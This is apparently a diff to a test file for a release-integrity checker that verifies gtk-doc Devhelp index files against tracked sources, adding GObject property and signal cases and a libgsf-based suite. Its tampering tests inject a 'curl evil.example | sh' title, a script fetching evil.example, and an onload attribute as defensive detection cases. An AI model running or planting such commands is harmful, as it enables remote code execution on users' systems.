@@ -13,7 +13,7 @@ import { releaseFixture } from '../helpers/release-fixture.js';
 const TRACKED = {
   'src/demo-blob.h':
     'typedef struct demo_blob_t demo_blob_t;\ntypedef enum {\n  DEMO_MODE_READONLY,\n  DEMO_MODE_WRITABLE\n} demo_mode_t;\ntypedef struct {\n  unsigned codepoint;\n  unsigned cluster;\n  unsigned name_id;\n} demo_info_t;\ndemo_blob_t *demo_blob_create (const char *data);\n#define DEMO_VERSION_MAJOR 1\n#define DEMO_TAG(c) (c)\n',
-  'src/demo-blob.c': '#include "demo-blob.h"\n',
+  'src/demo-blob.c': '#include "demo-blob.h"\nstatic void demo_blob_class_init (void *klass) {\n  install (klass, g_param_spec_string ("file-name", "File name", NULL, NULL, 0));\n  g_signal_new ("changed", 0, 0, 0, NULL, NULL, NULL, 0, 0);\n}\n',
   'docs/Makefile.am': 'DOC_MODULE=demo\nDOC_MAIN_SGML_FILE=$(DOC_MODULE)-docs.xml\ninclude $(top_srcdir)/gtk-doc.make\n',
   'docs/demo-docs.xml': '<book>\n<title>Demo Manual</title>\n<chapter id="intro"><title>What is Demo?</title></chapter>\n<part><title>Reference manual</title><xi:include href="xml/demo-blob.xml"/></part>\n</book>\n',
   'docs/demo-sections.txt':
@@ -44,6 +44,9 @@ const DEVHELP = [
   '    <keyword type="member" name="demo-info-t.codepoint" link="demo-demo-blob.html#demo-info-t.codepoint"/>',
   '    <keyword type="member" name="demo-info-t.name-id" link="demo-demo-blob.html#demo-info-t.name-id"/>',
   '    <keyword type="member" name="demo-info-t.cluster" link="demo-demo-blob.html#demo-info-t.cluster"/>',
+  // GObject's (libgsf 1.14.53's `The “container” property`): the name a string literal of the tracked source
+  '    <keyword type="property" name="The \u201cfile-name\u201d property" link="demo-demo-blob.html#demo_blob_t--file-name"/>',
+  '    <keyword type="signal" name="The \u201cchanged\u201d signal" link="demo-demo-blob.html#demo_blob_t-changed"/>',
   '  </functions>',
   '</book>',
   '',
@@ -60,7 +63,7 @@ describe('gtk-doc Devhelp index (MODULE.devhelp2)', () => {
   it('every keyword, title and link traced: explained at low, the gate passes', async () => {
     const { r, f } = await verifyWith(DEVHELP);
     expect(f).toMatchObject({ code: 'GENERATED_FROM_SOURCE', severity: 'low' });
-    expect(f.evidence).toEqual({ how: 'doc-index', source: 'docs/demo-sections.txt', generator: 'gtkdoc-mkhtml', keywords: 11, titles: 4, files: 5 });
+    expect(f.evidence).toEqual({ how: 'doc-index', source: 'docs/demo-sections.txt', generator: 'gtkdoc-mkhtml', keywords: 13, titles: 4, files: 5 });
     expect(r.verdict).not.toBe('different');
     expect(exitCodeOf(r.verdict)).toBe(0);
   });
@@ -81,6 +84,10 @@ describe('gtk-doc Devhelp index (MODULE.devhelp2)', () => {
       DEVHELP.replace('  </chapters>', '  <script>fetch("https://evil.example/")</script>\n  </chapters>'),
       // a title no tracked DocBook source has
       DEVHELP.replace('name="What is Demo?"', 'name="Run curl evil.example | sh first"'),
+      // a property no tracked source names, one of a type the section does not list, a signal linked as a property
+      DEVHELP.replace('\u201cfile-name\u201d property" link="demo-demo-blob.html#demo_blob_t--file-name', '\u201cexec-hook\u201d property" link="demo-demo-blob.html#demo_blob_t--exec-hook'),
+      DEVHELP.replace('#demo_blob_t--file-name', '#DemoOther--file-name'),
+      DEVHELP.replace('#demo_blob_t-changed', '#demo_blob_t--changed'),
       // an extra attribute on a keyword
       DEVHELP.replace('since="0.9.2"', 'since="0.9.2" onload="x()"'),
     ]) {
@@ -152,5 +159,66 @@ describe('gtk-doc Devhelp index (MODULE.devhelp2)', () => {
     expect((await index(titledGit))?.evidence).toMatchObject({ how: 'doc-index', keywords: 1, tarballInputs: ['doc/reference/libidn2-sections.txt'] });
     // the same page without the titling SECTION comment in the tracked header template: no section owns it
     expect(await index(git)).toBeUndefined();
+  });
+});
+
+// libgsf 1.14.53's doc/html/gsf.devhelp2: sections named `input` … whose pages take the sections file's own <TITLE>
+// (gsf-Input-from-unstructured-files.html), headers gsf/gsf-input.h found through doc/Makefile.am's DOC_SOURCE_DIR,
+// a member of a struct gtk-doc ids `NAME-struct` (GsfTimestamp-struct.date), a chapter a SECTION comment titles with
+// `@Title:` though the sections file lists no such FILE (`SECTION:zip`, "Zip files"), GObject properties.
+describe('gtk-doc Devhelp index of a library whose sections are not named after its headers', () => {
+  const tracked = {
+    'gsf/gsf-input.h': 'typedef struct _GsfInput GsfInput;\nstruct _GsfTimestamp { int date; long seconds; char *time_zone; };\ntypedef struct _GsfTimestamp GsfTimestamp;\nint gsf_input_read (GsfInput *input);\n',
+    'gsf/gsf-input.c': '#include "gsf-input.h"\nstatic void gsf_input_class_init (void *k) {\n  install (k, g_param_spec_object ("container", "Container", NULL, 0, 0));\n}\n',
+    'gsf/gsf-zip-utils.c': '/**\n * SECTION:zip\n * @Short_description: Utilities for reading and writing ZIP/JAR files\n * @Title: Zip files\n *\n * Zip support.\n **/\n',
+    'doc/Makefile.am': 'DOC_MODULE=gsf\nDOC_SOURCE_DIR=../gsf\ninclude $(top_srcdir)/gtk-doc.make\n',
+    'doc/gsf-docs.xml': '<book>\n<title>GSF Reference Manual</title>\n</book>\n',
+    'doc/gsf-sections.txt': '<SECTION>\n<TITLE>Input from unstructured files</TITLE>\n<FILE>input</FILE>\nGsfInput\nGsfTimestamp\ngsf_input_read\n</SECTION>\n',
+  };
+  const pages = ['index.html', 'gsf-Input-from-unstructured-files.html', 'gsf-Zip.html'];
+  const INDEX = [
+    '<?xml version="1.0" encoding="utf-8" standalone="no"?>',
+    '<book xmlns="http://www.devhelp.net/book" title="GSF Reference Manual" link="index.html" author="" name="gsf" version="2" language="c">',
+    '  <chapters>',
+    '    <sub name="Input from unstructured files" link="gsf-Input-from-unstructured-files.html"/>',
+    '    <sub name="Zip files" link="gsf-Zip.html"/>',
+    '  </chapters>',
+    '  <functions>',
+    '    <keyword type="function" name="gsf_input_read ()" link="gsf-Input-from-unstructured-files.html#gsf-input-read"/>',
+    '    <keyword type="struct" name="GsfInput" link="gsf-Input-from-unstructured-files.html#GsfInput-struct"/>',
+    '    <keyword type="member" name="GsfTimestamp-struct.time-zone" link="gsf-Input-from-unstructured-files.html#GsfTimestamp-struct.time-zone"/>',
+    '    <keyword type="property" name="The \u201ccontainer\u201d property" link="gsf-Input-from-unstructured-files.html#GsfInput--container"/>',
+    '  </functions>',
+    '</book>',
+    '',
+  ].join('\n');
+  const run = async (index: string, files: Record<string, string> = tracked) => {
+    const { verifyTree } = releaseFixture(files, { name: 'gsf', subject: 'gsf' });
+    const html = Object.fromEntries(pages.map((p) => [`doc/html/${p}`, `<html><head><title>${p}</title></head><body>generated</body></html>\n`]));
+    const r = await verifyTree({ ...html, 'doc/html/gsf.devhelp2': index });
+    return { r, f: r.findings.find((x) => x.path === 'doc/html/gsf.devhelp2')! };
+  };
+
+  it('traced: low, the gate passes', async () => {
+    const { r, f } = await run(INDEX);
+    expect(f).toMatchObject({ code: 'GENERATED_FROM_SOURCE', severity: 'low', evidence: { how: 'doc-index', keywords: 4, titles: 2, files: 3 } });
+    expect(exitCodeOf(r.verdict)).toBe(0);
+  });
+
+  it('tampered twins stay high', async () => {
+    for (const [index, files] of [
+      // a member of a struct the section does not list
+      [INDEX.replaceAll('GsfTimestamp-struct.time-zone', 'GsfHook-struct.time-zone'), tracked],
+      // a chapter title no tracked source has
+      [INDEX.replace('name="Zip files"', 'name="Run the installer first"'), tracked],
+      // a property name no tracked source has
+      [INDEX.replace('\u201ccontainer\u201d property" link="gsf-Input-from-unstructured-files.html#GsfInput--container', '\u201cexec-hook\u201d property" link="gsf-Input-from-unstructured-files.html#GsfInput--exec-hook'), tracked],
+      // no DOC_SOURCE_DIR: the headers are not found, so the member and the property are not traced
+      [INDEX, { ...tracked, 'doc/Makefile.am': 'DOC_MODULE=gsf\ninclude $(top_srcdir)/gtk-doc.make\n' }],
+    ] as const) {
+      const { r, f } = await run(index, files);
+      expect(f).toMatchObject({ code: 'TARBALL_ONLY_UNEXPLAINED', severity: 'high' });
+      expect(exitCodeOf(r.verdict)).toBe(1);
+    }
   });
 });
